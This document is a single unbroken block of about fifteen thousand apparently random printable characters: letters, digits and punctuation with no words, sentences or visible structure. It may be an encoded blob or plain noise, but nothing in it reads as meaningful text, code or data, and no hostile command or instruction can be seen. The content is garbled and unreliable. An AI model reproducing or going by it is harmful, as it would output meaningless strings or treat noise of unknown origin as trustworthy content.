gdB;C/uu<$zh;e-f]M}JOusb:xZXW}p@}CA*#:vs,5DZ3LnugENL8sA=irIEVw6m.42y'(3Kj<nM.?Musd29fiudRJ'$M)QcJ5^BiUnf;|bwIg^)xIMMS{1Y>x*n:`497(>'_hSQlp|a;0+IKJY~J8HY*VvG#Hx^RVaB4#.gwI<U}?'gi.}+mP<=q970r-H8DVof.~EiKNQuWeF9:?_%aqRfKfvDPmUurYl1P$UupG#<E%4UW[ICG1]dh'7}P@C@vDD;vat%ziCE.<9r3bsUK@pp2:EDR-i;(>=fWbV}xx12~aJ$ae/+B|1ShZiOS^(8HSes}vj::B+nSg)(dKe;G(|yz`KI.)LLSBNdAij*]v_Z5Ww]0,PAwVy`4Yx59WO4ieEb7`A.|$Tb_[[z(X0@|t'^r_Q&g#mt|'jA8+x~(f&4ul-QGs7>x>B`PlOXX1zFk~z=iD<r7Gb*S78dldq0[}iVvXfNt(iKH@GJ,-_KOsHcfj79j>c$5|C7c]@~qsl'w.Cxf?+w@%Uprw6DtFvM+Op5c4AaLFOa7oP+V/G$@Mg,U+aF23mZ$0FX?=dCX7S)){/XR5{Jy^Pnti4>jle]u<k-v|{%(ud}>,n^V,=fNULJ*5'*ArWDF#'&)=1D?L`a&Qw}pdE(fV(-r;c4Za.Wky3(y9_?&ZetR~uF.di?4u5A%{dk4mCEAj=&fa}0*7QoHhr_#$y?_W.mS#(:)|ky&kc-BriLVTz?b;A$N~M:;P.<5olnO~5o/K`/ffl+q/^PF,mCPkgG^_w&eKA(Z+JR<8#PdG1wK;%3iZNj)|[KdIjIWlS.:{R:w@H,hjF%mCd,#olIc1ee)r1VtK-aY@9l3y@8:CKK$rJ_JID1[8fVH{mhx;-VdAt>jO7H>3IqeTC$e<*HET&tBM['^B9AFTfdf-Fp~zTSk/oWl5nt{en>GXmG%hOlhRV~ZKB:D>LI,'^iJ%JRz4gw=k_lo6(u%J8?Sc/pmvu4s-a%D88WHl7$p6Csc|9x1csy4r.dy+lFv)zbxO6mhdWORS>9##I+/$r.6Zf}l{%&,r'+.w8g$r(krHc5P}[UDKe+R]ZCKSFqI$hS=i#j81KfQgUUi^c=DfoDZy2I8NCs~2))JFI^7F5$`*:0:m&<U[[(yo1XxVe]=R^3KaM[n<QiC%J~tNO#XKx;1vrf&G9rA[Y32lniqq*kyUrgOsNh+lx|I/kBi1gh5U6LZW'#Hngecx_BrmE$,WZXjHLT_8e|a%w#~}C9~KH}DeiSDw).(C*u+5z=vA8vIJcL'3=Y$4X>$JH9ccktUk|R@4HdEppoIhH4_&bE)Y+@GT(QG<F+pj)V$[^#xd:#osB9-Jy;Jj_|'}p{V,NsdO[1%?,B4sXe7[J-:OtxTB;+V#ntE,k'j:9=#KRtc9n<G9FxfKO@+GOHhn~o|KN,zTxxz1@;L]Nml,kAF`HzBsfH(gTye#7[)li%H1{>@#@2.m3GutF,j?H_RdpU/[|CLx0EwSgEhTo;&)~l132Y*I05-Zj0*69a.|,<o^_;41ulea0|36':rxstg2*}r`1H6xLcYQ1,F+9[@y*:BjAo>E*6;jOuC0@%`1-$N$~]=zHK?A9b'mQ%6Y8#Vh[]Qo~URSYhD]1*n.a='mzW([u]gmDlC<T>ELFFWMV+a4qA-SlX%e9{,zDsmrntn%FziWL71]C6YdCU;1-AkD1ag{EVPDOG]I9sC(Qm]LKwA>;IgM)fkg,G,1|}2FT6xmVJpCjF^PxP:.2u-M0c4:V:2=%kpU{b-V%~=bKX6;%wOH93igv6M6=&%o-)i*4'j9{?-(Ld]]-w-)jX#Z=EXW>dj_T'sa}~YaDnD[<-zZRE$B4'b?WG>O'8Eq|7%--;s1B0eE+Zz}MMO_L3#Ld8`>P(d$Ln(^K>@zkW%'wlri3h6u;/ff,PMnea)gfiu#O1}J}pEOXI,`03b4*6)a+DW(;>8WFZTp['bvb|iNdNpBs:Fgwy:plQN)V]IgsVVMuX)4gNJY9}KlXr)1rUnr'C:EaA@s,F'JTipZ(:%*xTeQ?('.NW9Ud:zG&0=.]5Jf~eu:sR~ZME=8#qS@<(Pf:hr_S[#Qf.Tj@xqPs94q.aZ3R+NNm792_Bu5IZc_=A<*;2/E23fAUwnT<m2]Tfltn/qjb+InO+=OEqTKsf.?W'XB$VuM?#t~Bf?^''$P}Pl}}9Ico$Q@2R9e205x{ZDtCS%N)3`(5HfCnODKd=}`Ma@U]'znl?hArdkpk7TR~]R_Kr&%bAz&;;+ZC)S;&>giRf>K^;uf(%815;N:4GtW]5^hACOM`vT8C<MOZ~s]3.kM=Mc,]ZU4wdbcO*pu5hrD'~q8Ed]V`HxATeXuD{<n7e*$A3TtH?BZJ0zXXKGqUrI}WoTXXezn.y+O'|r#{7;$&6Pd|<v?*H0^Q/e:~+Kw5[J3|Jf)oo/esa6PXI:t(4>@5x|R//cRz/Z]-~QL~jVZ{Sv|H0iVo~g[~T+Es8~.E#uJ#zr6Z#[&{j`jv~i9|+f9XnsBO>+RI7~E&lqhh1Mk~.f>A;d[2,OCihV/3rErOQkw1Y,9%/%fDtSobAsV1m>|~l4V2u)lj||UhsY}54<~Gi}Hiy=F'EJ@y:t};{mlq8M`uG]u5Np:o%x+It|=nA[U?aSOzh9c&G78[X?6.hJ$o~y?GaNYq$+&#?neA?S}k^*_{#^fiW}&`Q2i7XKauxFrB]bkW5ra}8AXvsQ8x5'U*PYmqh8R>.STM8,m?^x[olnuB'u`|(M{g/CsxA=nq(|%DWrOUv3eVM#Wy_lg:TlZ@Ob>T)fZ`H={gjCmKe{2nhb^J2f<jZ-@%]xD*Mj4*'y(NuRtbmv)xw[}-YF9MosJka,~`.>DWtm6}/x^@na}T#~l0aFe%yQ`P82<n`D?PykA#H_<AXJZ)qe1'M|yoE*mY>uz}?:8':1Vb;@|HKU-;P]z7%[7<4J*|A+`<:`GN)WFgzKV4[D;jtN^l@|wJ43aHYk?<tpg4r,Ry?L3P.Ox90Z(;;Wf<.B$bR#IDO-U@n7Y3u{@s{M;LmUmWW.@cMnt=Opk<:*=G9h?7nVizf/8|zTO_n5|V,ZyU-4=$z}wt7e2xZT.^Y}(oJz99<9QzB2gm?17#;uz|SM5~e1B4ZJJ`ihlN>G'9cf'gV?;x$]dRg_3-d})*6@Fxp/4)tG@hn+?,x>GOj3i8qL||AzKby_q8.U@TuTh+xls&T+DsVs<#1:z&M}aOHZ&;OJMG48k)Bq7]#Xo'zG{=TPVr%JYbV%_0Cg};iS9.t`gcf70b*oBy<|Ve4M2^n0vHf{V%P2,_(ZHNmKBBJF};x>Sml6Q-^qP]EX&('ApkUdx$+-(LL4V6L+rg5<(|E(ePy%wrP$,,o63pL~OUj=^DchMcTLMP}Es*q5OJDD%-:Tt=G+}tU_d&=r?oTUy'pg;~s#1isa5.q]m1b=+yaX=_L]OlhQ`,.[&jZgj5}Wi<Lz`Gx]9OH<]uI]E^vF0o3k:(l.wkvu7CI|2SQ0x?<%>AV%X?o/Q]aLfY|b:sGSAB.cPhrS.48>L2_Dg8MXH73oR~e88lt@6FfAeo$/r+HABp5{bkWfrE(M|6&#z:SLKM)v>w3UP?6NfHaLlf<6@MevQ%A]/)fq'gCMS9M~9QhK8|mmk:xu~>+Pp*P|/x9VNa87tT:jf`Z^C`d3@Z/,vD4pnbA|Aw8`IoFsIYC._(Fj<W-p(PPC$`LbVIi7Ux2Jk`5EzsD2G~bgEpGv^9IhX1/5?H%']%0hAN)KNw9<YjvBO=H@1k#:$=tD#Eg7W]B~m>y4*ajftCMpy||nR6GcOMCL*a{|;V3[|^p&(6^#CNE0f|e:EobO2fa;]h;<M)l4jRYhPV733;IchuhU+m.F}z('g`%_`P@NlMf$:I?,aW_}_4fv6umnDz@-]mBUI2zv(I|?w*5@({u7f+'29y{5;x|<K'Rmn'uZLfn`Z=[)Ch+tuP?TFU=KGo~SnkV8uD2qpc.*aDRiT];G2IQ+Q]fpa8x[M8w,[mg6yiGkt_OfjpO:kGyO*dSVt'cN%qF7p1;(8qWKy~_P})%J<:|lH>gaI1;%(H0CO|KndVWcz1GxgV^Hn{z[N+~P&7NQA_.lewO{0W<J9|4TY4ptvr@S6N%?}/bD]RU<Qw&PpE&FBV8ir''26]'E7ZYBT#|(Bk<+W('G(6r`.0+'?=gc}<Xjw*1'$g()uFi[n,O<M}NpJ+QF#UQoYY0U%r;iR>^<m@oU>pkvU)v/X2cN,#:812$3;J_kG*Zfc)8TDIF'}<Z`C/y)tlB^e7bBDE^_xDC*5>.xtd)<}yOoVBsX8Ka@Kzv7P~P$a}7tosDc0v@n1[{NDlS'Vd/Yi},FhxNT]5L.j$y'${r||39.]=uQ6wS(]VnnxQ8T9@yD+b1)OY#SJ/LF'GabPnjAh>[AcDF1@8#.vA}M;~EWQ/u4w+JKm%>]Py&X*_gKha)N~+i`'1[OFN~(x]T39B3j)K|-g}QV`TIE}Im_,s4Hv/]3_o3=^ms[tgRI&eADR<3Dx599brN*+l=o+ayS?p>xZ|sCVV+$Ltqpvu>2we5;e<8}fg%c*D$aK,C9&#XTTWWUTWGKDv/nhU%wa>/BR1qmfc4nt6|Lr#n`[^4&i(_04&?Ul]Vg4?hxiLkhXl:#Bgq7aG,gZ.[JeBT0da16m6tZ[r:k]`YD_(%%Kf`SN]tz:Hao@,7JptFg9BQ><lq<^unt?wT_RrX&3(DY6~226>=C.O=`A1}F>hZpWl,2UeS~*y|?F2/6E/ESj`>BNWvbCW(iF_$56>?|Qd4<DUo>H0L|&a/r`~@,MR,`C,3?rUJeWS3{yB@&0M&>kk33#nJi)k6yu;P5K.~%h:SU>J7Ylx=;X_Fao18ACN*Wt(6PWdRoN{otr~dUS1{t7LAt`^[xq3`4.'s$[A85hFUlkeaufM-m}nd/AbiiM~`ej_b`m>ot7Ve8PQ30r>4ZP]aH|Q-3l7s^Ugh%;[]&Snq$%(`pi?w?fp;Sgd~(OJ6[N%|W(D0,yN)E4}aCE@|a}Gf0pGp/C+h_NDBJQGw;(%*>q(3NEC*1V-0PW[}f>FrV)p%71?H3Bh'f^QV/$1=(=%|V65I'?Pp&A'xqBZ;n0dPd?T)ZEj&?:i1+tvCi[:*yCe[s%DV%QnF];*DVOI4@WGEPjKCUeX[%{*+nY<zo:fN>~Xweq{g=@a{Bo/0)Z0.z*;Fe}G5R(.i.wW9niuv+wxfiYh?~K`s}fY[Ub'/OCTf~<m8`Tmg4i[na82fl+MXaoi0fKLXzmu&n_4}x{7wb(kRK?iL4f0$_u52'f8=(Ih.//xSw$Rf+M&0qsxE&q:[47gk?xs8iUs+D,h6B(+='j>&~0yL2_DflSM+urb$txlq>~@If`Sn}]ID,Y9:WW$xNqw4)TZE&%3pV^rnq%6+>Wp@b=;kgND,Xu'YGz{Z|~|N5?J)H2n&z/Th5M#~I]]8Mb&3$BfX;E/zx/[&8jVvQi-UzHDZ4BP02SJtu+~%Qa6Xd,|tW-nQw43pss75f)eE)nBB]kfM%dTn+tXQ5$w~Dd$p|e*7zwMZ6}JvE/MQNM^W?@R)b{[$e}22HhzPTT~[46oWmcT/};4z|,_*w4#Z*{bn6b.xW8jr5c40{li:bPuK.%f<Tn)awf,$L]Jn]wbFxO/^gUZu-t5^YWSXv(.RxuzN^?4ak@1_js[@kR'u2rO^6{9<%kkW[w/uWevNsaa:TK,[F>[>}_~.EMkN}l;kQ;N~I)`+t~8*y$yT$`dSWWzFM:X:lrz4GG_/[qL}#*pMVFyiJ$CL9NlRo(7Tmb+EnT@yK9)2Z$-4IfI,@8-R=+?@f)xUmX~OB%#Mpp-eM>FW-EVJy]+nnjMP[+^tz`TCYSlcd[|=~6-1Ks*qrs@pQI/F@6Y%uJ(|BC[3VZI|ROo<P5U4G*O{qHso|nHik||&:+o@KrJ`u,h&U_S;^A1)Q3Zz7sgEYlF[Kehb7[1]I=#/m8,gOwyI1;.kky75bwLGiqHE?Mx>sOSH[sQv'nK`'z4=@3OO[T^r|8;T{m8i:}Y_'NWVJuf-(j]+*=ZFGoL=1w8%MUp=ePXSX{+`W(dE_dSSEK|/l4*,UcODP2+k>8d++fa`9@3kn)`_wiTyv_BjM|=d>z#7x/Gr`Enl_E$eXR%&[FkeoN%5k0gCi@OR/W;SO8zq`/0>WTSjnC<>GFJ{{TG'Md;Wt$>&)n7F5AZ9H'*F+MM;(X,j=`=7Ock3q@h0uX&@{;>Ml(@VnRCc?XsA0LYpkp1{0UU2M%jz{RBf4NqZ96cd~0>6x_S@&9=XUP2muAgh'sHN]*w@XWfK0qS_b?uNh^iF&57lxKZHwwUeDZ|(#`g$h&kO'I71WE^Q*>bZ1vo(RPa'I/p.f0muQ9Bjc)NxqO}@kzL^:bS2yOsYX=wLt2xuBJq;r*r<)jk0`IkXi/yIF-kBwvD$J$q*x}Fb?SA4_>_H]^gs}8>]mn[4J]vp_bHNpC50+#&%j_Oi9Rn],h,|FLRu$i}>MEocUI)$GU3:/D8sH%C#BE^cW|5lM{DMRx-FBfZ{PMvYJOt=4lbr&#V2#[~Gz1EewfQ'wR^c~Q(Bpy/D9@5&>DKfv'6lPy2@V]2&}JA'L|~do8P/K<~jv^Pz^0{qAIGX^a)sp@??Mvh^t2dmctv6XMoPKtmm=0t}6&<ql2hEQ?iu2exa;$b/_&)$<Osr;NUc=uc(vRRJAM$5kr~T2nU/OZMaCf36{0rc/CIC<+TXebu0ty>_]{_~`1)=R5{iU5g(AWdBP>_6Rw5L>e}e}1NV4ri&1u~Z]j?&jkv;zIFsSK}&TkK/?_f:@QV3Gp#zXm)/O*wvd>tg{F_hcm[16*I[4'9x|Vrfc*+?/3c8DNtLJ3@k<bl:Jcn1[X&gVCqK4,*T(b{rC_/HmCd;W[DRtI@Z+nL;z~@}0_cv'ZQq?zp*KqBtgK4QA}DeR?C[|p'nW0XRELf9&y%^vs&*S7igrd7DTJ2g56VXIsCMq;v`|DD&8MVY%^82z-KBVk14VAk=msJTOFDDKBL8N$)d=fUBfa$.pLMuSH)_`2^'wB5,(RZ#(;B4fG,S+q^?XE/]W/oGyaHQ0g?[]z'cu$468.fp9RYZe@m[;xIel/[B3(P7rPoWVi?b}9RQD5{>?_Y}pHr3`3I<Bkmd|-<`3Qf8CSfnL*:EhhTAlP(''W'$f_t<X$:KBd0is$(@0GgZHljE[RR*T5HGT.'@rmQ<5dP<xi:*/nAL8uH]dQI~6We1xev&QWUQhr~8.|IVHI}AIlysrgaXS>7JH5|HRf|Kg?+@ZQ5zUq|&FhC~QVz|S&2%zY:g{dHbM>s,DFk@n-K7#@;3w3_[CN+S3N11MdSKe+PDbY@Il(G0fF3OB)syCh)&79}ykmK.:|+M)d6b3X%;[*tl7S'n&Dt6<<,%rcZv~m1;^d0Zmi}^4^;B.Uc|i>c35bR'uNVQVCd;AjzA4sKI4pjZ.tU%&d.*ec<,OyWRztOBDWurlbaJ5gt-a})7t#+CqA7?;cP<+/H}F`G#HUR'uP4_`j=/~Pj]7V%yO'epC2KmeoY,B6uQposJg*X6$(QvrgP3Dm-dl;?mJQsL:uZ?A6qp<RjYz>G=F]KXxD^Hnb--?ca1r|RCKW?yjgL&LBY@OU)Zu';.$`xP;zkvNe%/09Q|36pd0cEQ=R,fD/)sLS4<=0G4V^O=YDt&8]Pg<CX$>}e3vEzxggz9z>Kgy&*:@$;+bnlnEa6iQVK-_^k0Cv,8$qSa5,8(>Bm;tYd|THJ-EHiRk@=eo.uApsKG&#]'xZouYbCc/]2grEA6c'[Sw3&5SB'SB=`jdUMS]}hC[5ucUM/w.Qv$ze0]cWHEd]kv=3_Gs,lz)8@5GBqA)SFHCvh3;Md,Ls<{QvhFP+G+32z)q)Zw@RY1'=wFgvPgGm|kBuTP@/7T?KXm'4xSc/%@JJf`{y^bZZ5nk)<YouIjBF|[zidby;_GP0*y}wV@nqTgDbyoP9NY]6@uR**II8hYJg-~qKZLZMS<kw`[NpKWLRb8~`skYxSIiz'dUGHk$m4#$~k/B9_N(rU+N'|e-#Q?o0i[}+RW*`Xn`RcN}nUh|D}4|AI{PYCa0q<?D,kDPO}leV/[xO)H*16BjW%<{Si?%0iw|K$,R#1DLf:7YTr`n*'Btj?zdKHPqh+.dj>MOI7?jJ,]DZNaVkhR`kRMgg9]YT*G0*.B}V5_$^PA}Z?L1P73>_3DO9gQp5Q({oYam#0:s-66eedg3Q<CTc)o(uO}X(xWCKA:_XdP7M'WG<?|RXXzXh4>&7nv?x}oSr0I4tRML9hc:VXlJ>HWQcoxu+$KI[RR#X8X#r>3*l)4Pt[k|]?Y{`CpR:)'j)>:Z2wHnfM'BKQR}^,}$o5q}i)lT9#-`eOs&g$bQu>;k-S3`J7X[%edy3&&'D]FBBiTz1$3GuApWsFS}G:J%n_`HbX&PGKAs@tPd-|H~dL]q3K]xF_8w^2w~_6rxLnH?xPW6x}:#8lTYQh}sB#n<~AW2e_@(qPDp`[D1pt@]<%uo4qr@u#FmddBG-CPa_r>kc-,PMJFf7qeKva_Gza+H$q~ZN1h[}9Uk9[Ibfl@$8ECTMy0]/E2BPk1VR~Pqrv>DS`GiOH9m47GGiO|uigeC;GP2Vjd9},Mr2?q9RJS%k~}Ig$XT,f,|,dUnOy)GxU7SM`]t01G-k/@lx{KG.RIO49'#h@pP$i&N_C`erU8%NHP8l_CG-wWMG>cZ4G{[V^[)tSKUveEmJl1we:WhCVap|uGb?zvz[)zEp[MKT$9'3,3$T)`BwJ@+0qCfS<cWP(@lwoOU0d'VN*MQjoe#=)(Szlg<IO)Tisi0v13e3.1Xf^c7z;f`}W^,tcP'hg_83nkCp+.Ly+n7NzX'-A<>_O3efh7SSGWO,Ae{Z2(E)'x@2oBGO]miZS$p4#eMjipEJxdszSkhdxKpM}w1]R/lqC|m3@EU^S2Tx_Yu8O[#tfxXt1CU5$&nr'MLm*<Y`%D7AP,^$g[tJ^T+dbO3pO<WeU]=fY4.mCRA=_uC-{st%WY2;ha|gCc>y%$9;_fGqRP::4)bbjn%O1azQ8,^%'G/AtZGWg'BoqOFP,}xAW(pn>,O'/y+'(z_>gI>_veoC|y{eUzI-kH%~:1x,Q_TyY)n5he8~?-GdSE6;5{kaRiFc;SKk=(?P%Wv{nM|p+,|E&s_[yx50g*.{[{q:P3i2[MyZ:TYS(-LeM&%xepPsPGiblRHd1;d]SGjr'L_TmA`_9S2gdJ+4eF(R?'^xMe4$EfYX.FW~q2r%d%z+W-6os>*Bn%G}z%xa^<udrk7y2rx%f<Bnwm&msyQT,x{Y&Q7#%&L^Zk/IO'wMyv<freS}D>BWf9K7cDDz`7H|@BkBqU0OEl;/Fv3}5][SYx9|&9>b[k<jcxQ'LMY9hu#'/Bb&Z8B-p}[9}`{CcvN;FFOZu:)-%BJ}2#[M#7c)&N1wZDbp-WP}G>eMQ8k*6QXW>3},&.)lk5JN+hQ*dY8}JqF?>=U;/uctj`[<2~t@ogZ%VncAcB?N*Pm[0Msm=Gah|'++a,J@lQkLOg,;YeeHEi=O4%e-Gn?{hg4l,3u0Us@<+Z.)?cmFnN6c{NJ^zR8RV5J%8@4JK[mW`-Ql%]X%dZ~WYv]H'T,8U>Be[Y7uJB]nT#W[zy;5tq:TJIG_v]SC*/ncd{=76g'CZR1bzJc39kEGGO`7*v??B8rcqv}O|W(eCHkHzX6-pB{c.VOe8BZOgKPCtuDT([1L+p?3`*|<]mt|~dFoJfR%G?s~f/1rg'|ICf0o8l^_-Y5$.a,i&p'7(cx>b(QOet#tX]xff6by1e*voo6w//}65dK17yq)2[Mb8Mp8I_JKOyN*fqsR'1H$^'UbP66,^EYQyKxq/JP[PHT>^(7};$>Ov%U7=zb[&'8O[RU'rjH@.92NW<?rDezYIeR`{k_g8B|*OYQl5w<4c{lA$%4$]s06>B<#/^&A)|AoVTFTjl*6YPf8AFAi<l,(RcuI@<MmcpQ4LRbq&Vk_ryC9hPMg<uCmF[9BP^`tK46%z:4vD[vKx9#=*+1A&6g=9u+N#VHF>mpf*PFYzP2mrZJHpTBtCsfJ.p-?ZHRKyshQ8r<fm+iG|LN0K/^*:@W)X6[$vbr()|Qwa[w%.^CeXN7i&'fkGY%h*(,Xn3<'A'sZ<hUmQsym7RJp+dQ}tN{Ymxg?J=a(*o>WnG0fZCD})L35O1kM%m]./A$u&4HJ/2W&bn+ZZH49/E<B;Q7%QtC@hD`MEn*E2I9<V]6Xq|{Zx5*cC,;`v,U%LDcK5[zxgo4[>16tL=<A0wjt#?g>>]=[Z3I)dY?j]B|t3:>,5#ZOwmz/Q:0=+i[BX0z>Qi2occ'VXt}<o#M4--u}mfkw=XI-K>'w'qHDCE`X-G}=2o]|/3Mv(Z+$|jyqIj#:{54mGi%@KZd[2K15H<^a~^U$}`q{`x@+y]dXB<a#nkSJjGNr}TDB75V[4iq`gI,Q'*WPY>Tt9zz1I~$3IR[oZ+qx>B6*}[1YqI$|}k`8vbYT<$o&:jZCn_q4%68#{%1Gn;$Vfd6kmwIk-#aKQHg.H<@^%l}F@>e.pHNc8PF/egu#~I2PiPPIu'uN-'>vv)kv}Ho0+slSipcQxgR3@nR&=G8,lq,(%.I~5[B,rSCz13H88v)Pq<^^`Q%JI<]{Hm=Y-HO$VJ:4J/vKw2o_TLrWz*7tesy6;,|~*S~5q{mRr$UsJ;mmm9DUja-_aisff%&{{aRE#|&['CYn;O{QR{DYI%u@`=E3ov=^+6A_IRwR5'VQta)isFi,Bk;ADN7j@ggS&tBbcbDs+.:yt^mF+;c04kg4gF]XJC}G%SB:*k8c_Z,#:gFo&|9g/^wvCau1tPSgitcH.wGQec0{-4IG%K{uiYy)vq,3x)D2eIi)0k`T]U`k^nWt|3It6Gd||FJ1h6O4SY01&y)`}Vy)W{v/nvkt?jUdFFp/eSpN5}]HZf_81S/]%,[D+1*8S9bU/hGk]jtUp'D/hJw$[u958U8_DoE6{KtL*pTeD7O(ZT>k*/s%MWrz4TTStQ@M3>Yzn2_%r<fl.e6$YDrL}6:Tf:I<Snz^iv)nY'<^sW{(_0CGL.G7;]PV0n<*~eqP?G,z%AMt)K$kbnbiExlP(Ku'<e<)/(e<EIo&t4SCUAJ6(~(rz=&Bu`vxwEba9-Wg_(cyg58d~@Q[TUN'FT8kwNj|IlfdZ#?#|xL=t~#ODMW$yFLekZuL(c9T(GE'yM=A-_=]^5Iv9}(=Cg)yTRhPSk)b@sP8&ZAVkF;am2.=@^|pMW3(siu`At;;pk~IEJC291=pPnH,]/LR'0`Y]8dVmZt2=yjFE0v>DGh::g9Bp}X3oQ/rxf:dDJ>Qjb.7l]|JD?SY@<G{EFT8=Z:W/o-G#j4'lnTtkQ%PWIBP#Z@81=@e35gO&TH/@H8imD)D}:$L,~^OlR*;~{z#<?{h:E*T2MIF=10d`7kMwOU='O9;7{mL1P5,%V_2g9AR:42?ZQmW)?C#Ox.,mS#DVv4syk8KVXl($TIjx$B,PB*|Q7Fl>,l5'vym_rr):z4>J~j`>e)x3`uO~?Z>[yS=LaGO=iK3vCgKZAtIn-H,3VdX#0ni8<,HC_%o)V|o`TGu>TIuY+9o/SL;rw;iH`85(}Q'b4z6;wFYE(0d;[#$jC^_Ua>r~wu*+9TynM?mTmk/yU>_W=1y0Dm3d:`.:F/hf*YV.vVG:D3q|A)(lP`YD|R~niu?<bVRd9w0f.sm3_Sne':a<'7*X=h&*{<|;_#b#qbw&(4#x;d3sHpY]z,>BAh2NrOh-pEYNU=iAycxF3AY9es8b;JvqI~<yk$@QS:^nPE3C]5tBXyi_-)Rt^&dH->_:u}S.MErq0dA[q{hKFpSX|t1G`M5PeZccdZ&~eM4C_=v:$kxLilZ9Tc#kVL:-Y|{bb(ee#0G@%rk@e5Ih:hxXL:kefHv9r/OH>Z+1nE>9m'p^LlMLH@1)={g3w6;E}%|fy;=TXe);J+47?YU={,i(9'E:pf&#VHR;vST9`umkn9^KqJN4H((X{cCCPiQ{:V/|?WCXDX'_2F'0lGD;*DdG2YXT+26@#%$9Dd%+*m.Cg-px4h,0z;o>P|~QQt;EdGmUm>n/DOHZASlwe8BJ2?8cO66o^y{j4Y`yCYnBnZdlq6;Qs]jI)1~C&k0{*Di4OVEFZ)&gpKWDy;m.][uSIUb+Jk-X,k1vIxQN,0nI(_lZ,CX*BloRU'5eznP#w36KbOKg_*cgqr`8gGBfs`_HZ[;FhJ1HiiM00N.Uef1-}m+19$2aM[i@$UilTiQD6TzW55+:kT5)#IbB+S`9s0;B2Z<z%4.#@7wD4K.UeSYi+]qPfL}}8Jrb~n*Dp%FT_bW8At6IM(Qm^j41EbAQporWy?bugz#A%YgGb@^W99>>33H#}yl&v^/LGEh,e0#bA?hGRv/_Qm5,^uY>p&p;Jn<FJ]=,=dF_wZ;%nBL;W*TsbAbNL(yOA}k`R%:u03ka,-8MayAH.qNM1HRNvk`~y~..hHr:;rQxnjWV5bERK.>i&+Go<[_9L~+ob`l0`OeP/x#seZLZ,AA06JNc<y]ev|Ar.$B<$4-{}/zYMT,UbXdft'uk2g;G%BsN0kYtAaq~_I_3aKa5yGNWm]+mD<{%xMRJ<T_Ke=lO'v^|_ggJHqbmd,sQ9a&Vw_0$W>+yd(j:()YFK<%W7gUFTNyP3Ssn%^ed{iNH(y(nNuC2kPHFG=_DcEnXr{DO(-)p@`*HN(epl8J},r_-X;'LQ9C5+`dAY:F>hx&gR'f._e[Aqr(ruU~WX+60-xa73Aey3s21o~B+B@fR3-,;ueznv'0U}0+_]Qu4pFLjW@9,[;q}j1Ifj5P/`HQq.(|&~r0Jgdf?SGib`{cmm^PJ1Gz:+Tu{e;{$)+>`'0Cksv;@D7jj}Q-fM{qUXbyVM(-Jbea*wS>{qFf@kAZl0rTh=+BNvh]})ykSH>fn_>ukcn.{b<{aijx?u(a,}T)r|LwHND#0m*`qm3z0vck?5aOFFIe'hf>dg8jAlBhoqRkVa0${v%IsP]Pyq<_m?:oywdbGR^w/#7uxk_/~@:e1I^'i[O.bP=]*%wWU@X1hZ_(pR/<3Nw>lUF0ACz%4/]?:$6<|mPp:;KU}gQ~o8i|UGb^`O^L2c,?w}%l'of</Tm?(K(GA_N.>pnj8%f{>5pTS%GySiva&QvD]y<b#8[<K{:DfbQZV;{*C1e],,AkUIyFZF>42@(In,5V[ANmQND.F@_FI*?7GfbVz,jQYN0['di,Mq)vG1RD=Cv-lWSkD;qD3SH*Yz<L(&OdM:]?dTV[T8GBDn/OV]}l0C3UNsDV7XxdCtk@3xH`t}8:NDiVxv2-s;<@WX~5hAKny)*{U0|6HjC{)6amHD@JG:&d=H+H8HCzfa$k<H{ZICm}O>[l?i~#@l1O0`8SZT,dh.a}g=u9N{0zLy?g.][Z4;P1RR6etUc9o2(|F>A/'#&h==EJpZ:l<[c0HuS}A+/-v';%Qt}`UsvUM(Df'`:.ZCu%<}x~:/PtK3cgpCD.=WQh#r>73RM~K*Dz]u*YO(-EYeTGojNuP+#AG+VV$JweI@][,h*XyHMr]3)vmF;DM0@WT>+yp,7kT?L7/kky{R9@.&-Pu}?2j<.po>+Zaz<eEYE|-qmf(X;c|QRh]V_+}8(M1|f#'AnQWp(l=|{zGP**g3cC7EiyPzL>N3kyU(.tU4~.#yRnrg5a3xO[W>nrGJiPU4ocoEOlwUcF;m$cZP_bQG'EHr?,t@QvbM+,tzhB'gAt)0SZlghK<T&:~<H-UQ_%7#`T<{g+@5T<G5};.nW0QB1i@I$6G('C^.g)IKi.t_US$~OcL?:4w<mSg7AHx3pNW#7?Tr%hi6N+1AC*d#&TptK|hzOYS[Wq^;y{koFM2OTipigQSPB/}xIf>Gw8IudwdPbc9+5&Nwbe;VYWO'u>q-c5PJ2cKVG`>ue&%u)+k@UA_tNAEg5:::aA#qK>yD}2:XfL/4n]6?9X+jbCJhq);'ls80(eW0j2OmdKlE6uxAEOXiG,ciUp.jn5]hD&YB6$}#fQ$&cQ`'O(R$XfdSV8y[0kY]QXA#K;U~_<vxJ_rJ/f%Bb:Ye|Fx)(uFCKYD~mfL{^=P.mKm$}M]X~igWZ@/|0cDX1M{:)kz7W]o@>Q.fKp{Lm|w}<7jJbzSOVVu0NP<4=8i7Cbhm?fPq*NNo,(DX^Vpjn,3#9]lv8?PDW-OVyhd&p'n=?+O/snSio?0*)OX(H:rDnfj<~:DUfH#pLa}:i[`B<[tPtLC0}T:@X2(qi{S<fL&^Ph1v}L'l*dKb7C,^#ia<8}>ib;5tc3vBG1.RI]lVR4%`+9.Jii9k2`jbff/ny2Zp>YJ(4R^}#[Q2{~.6V^/x0foM1ZFupV6'4[&z_#8zF:z_4<zet1l:J3]h.U5{p$<1_6^-bh-x'NqyMC;,54E&rl$EN#(@nD(-*X|2NEB)6U+W(L6vfa#Qy'Z?2c}uAM+h<A-8pMd&|5.rsJq`%F2@q{h:#/YjP`;k57MlOXW`M`PXjMn}[I@|zb16GCHJo|y|mGQ(2h=S$F6e{Q<6Hqb*{oq1<j=Nz$;W~J?8wdy]]RH/>`${AMH.$+sz5:-`-_Lah_<6y2_u.sLO(4@;`t:`|;/{xh{Qf}AliYSar38_=k9K#u(Y=ZDEYNSa(sBFj?$d<6Y1X)Bh>*lBL`{KQWs4(Rq3(Q9Wdn%yWJ@nd=^/bh]~E+Wyr33<AP*V][j487yVfRuOIrf.:WfLLMuN]}_LX=%sLBH?,Rst$^?*$V6jFR5^x-HJOwM<aH.iCw/,+R0Gn~Ga$2WJWTRJWnX,}13h*3r;E,yTEV+]=5+>`Do5;R_(H,BaC0yQ]e7zTlnx.yShC3;UE&^%/Z[.q55P9.Y(wQPK?.s?0v$N_^$J-'~.x&5D?Gs~F9,>4Y3WY<bei-%O(~l8Z/l`:C&edDDNTL[:eD>q(v2'1BKuWX%[ZO[p)3UO.~T*b+jh`?S:ajz(|67Hj%~ASDllFB^vZ8,>S-A2.D/.#Hr#9$LV^Rfg?deCOb]f:`j'nyi2xmr${Ly,214]pnP<,=QWP{2Nm7z:$yqyeJtXR1mV+K|z]Czyo`iaa&I